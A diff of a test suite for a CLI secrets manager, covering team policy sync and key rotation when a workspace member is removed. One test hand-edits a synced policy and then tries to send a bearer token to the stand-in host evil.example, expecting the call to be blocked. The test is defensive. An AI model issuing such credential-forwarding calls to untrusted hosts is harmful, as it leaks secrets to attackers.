@@ -149,15 +149,13 @@ describe('team sync through the CLI', () => {
           stored.body,
           JSON.parse(stored.body).serial,
         ]);
-        // …and so is a hand edit of the copy on bob's machine.
+        // …and the accepted policy lives in bob's vault: the widened copy in a hand-edited sync.json is not read.
         const syncFile = join(bob.env.AGENTSECRETS_HOME!, 'sync.json');
         const state = JSON.parse(await readFile(syncFile, 'utf8'));
-        for (const p of Object.values(state.policies) as { allowlist: string[] }[])
-          p.allowlist.push('evil.example');
-        await writeFile(syncFile, JSON.stringify(state));
-        const edited = await run(call, as(bob));
+        await writeFile(syncFile, JSON.stringify({ ...state, policies: { any: widened } }));
+        const edited = await run(['call', '--url', 'https://evil.example/x', '--bearer', 'API_KEY'], as(bob));
         expect(edited.code).toBe(3);
-        expect(edited.stderr).toContain('POLICY_SIGNATURE_INVALID');
+        expect(edited.stderr).toContain('DOMAIN_NOT_ALLOWED');
       } finally {
         await upstream.close();
       }
@@ -172,25 +170,23 @@ describe('team sync through the CLI', () => {
       expect((await run(['workspace', 'demote', 'frank@example.com'], as(laptop))).code).toBe(2);
       expect((await run(['workspace', 'promote', 'bob@example.com'], as(laptop))).code).toBe(0);
       expect((await run(['workspace', 'demote', 'bob@example.com'], as(laptop))).code).toBe(0);
+      // Removing a member signs a roster without them that asks for a new key, and rotates at once: every secret
+      // re-encrypted under a key granted only to the members left.
       expect((await run(['workspace', 'remove', 'bob@example.com'], as(laptop))).stdout).toContain(
-        'rotation is pending',
+        'the workspace key was rotated',
       );
       expect(JSON.parse((await run(['workspace', 'list', '--json'], as(laptop))).stdout)[0]).toMatchObject({
-        rotationPending: true,
+        rotationPending: false,
+        verified: true,
       });
       const status = JSON.parse((await run(['status', '--json'], as(laptop))).stdout);
       expect(status.team).toMatchObject({
         email: 'frank@example.com',
         workspace: 'team',
-        rotationPending: true,
-      });
-      expect((await run(['status'], as(laptop))).stdout).toContain('key rotation pending');
-      expect((await run(['secrets', 'pull'], as(bob))).code).toBe(4);
-      // The next sync by an admin rotates the key: every secret re-encrypted under a key bob never had.
-      expect((await run(['secrets', 'diff'], as(laptop))).stdout).toContain('in sync');
-      expect(JSON.parse((await run(['workspace', 'list', '--json'], as(laptop))).stdout)[0]).toMatchObject({
         rotationPending: false,
       });
+      expect((await run(['secrets', 'pull'], as(bob))).code).toBe(4);
+      expect((await run(['secrets', 'diff'], as(laptop))).stdout).toContain('in sync');
       const rotated = await db.query<{ key_version: number }>('SELECT key_version FROM workspaces');
       expect(rotated.map((r) => Number(r.key_version))).toEqual([2]);
       expect((await run(['secrets', 'pull'], as(laptop))).stdout).toContain('already up to date');
